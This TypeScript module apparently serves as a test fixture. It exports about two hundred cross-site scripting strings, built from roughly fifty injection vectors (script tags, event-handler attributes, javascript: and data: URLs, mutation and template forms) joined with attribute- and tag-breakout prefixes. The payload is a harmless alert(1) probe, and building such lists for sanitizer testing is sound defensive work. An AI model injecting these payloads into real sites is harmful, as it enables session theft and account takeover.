/** Opens a dialog and leaves a mark, if it is run. */
const script = 'globalThis.attacked=alert(1)';

/** Strings that run the script where they become markup, an attribute, an address or code. */
const vectors: readonly string[] = [
  `<script>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `<script src="data:text/javascript,${script}"></script>`,
  `<script/x>${script}</script>`,
  `<img src=x onerror=${script}>`,
  `<img src=x onerror="${script}"//`,
  `<img/src/onerror=${script}>`,
  `<image src=x onerror=${script}>`,
  `<svg onload=${script}>`,
  `<svg/onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><set onbegin=${script} attributeName=x>`,
  `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${script}>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${script}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  `<math href="javascript:${script}">x</math>`,
  `<body onload=${script}>`,
  `<body onpageshow=${script}>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<iframe onload=${script}></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="javascript:${script}">`,
  `<a href="javascript:${script}" autofocus>x</a>`,
  `<a href="java\tscript:${script}">x</a>`,
  `<a href=" &#106;avascript:${script}">x</a>`,
  `<form action="javascript:${script}"><button>x</button></form>`,
  `<button formaction="javascript:${script}">x</button>`,
  `<input autofocus onfocus=${script}>`,
  `<select autofocus onfocus=${script}></select>`,
  `<textarea autofocus onfocus=${script}></textarea>`,
  `<details open ontoggle=${script}>`,
  `<marquee onstart=${script}>`,
  `<video src=x onerror=${script}></video>`,
  `<video><source onerror=${script}></video>`,
  `<audio src=x onerror=${script}></audio>`,
  `<style onload=${script}></style>`,
  `<style>@import "data:text/css,*{background:url(javascript:${script})}"</style>`,
  `<link rel=stylesheet href=x onerror=${script}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<base href="javascript:${script}//">`,
  `<div style="animation:x 1s" onanimationstart=${script}>`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `javascript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `[x](javascript:${script})`,
  `{{constructor.constructor('${script}')()}}\${${script}}<%= ${script} %>`,
];

/** Beginnings that leave the context of an attribute, an element with raw text, or a comment. */
const beginnings = ['', '">', `'>`, '--></title></textarea></style></script>'];

/** Two hundred strings, each of which runs a script where a page takes it for anything but text. */
export const scriptStrings: readonly string[] = beginnings.flatMap((beginning) =>
  vectors.map((vector) => `${beginning}${vector}`),
);
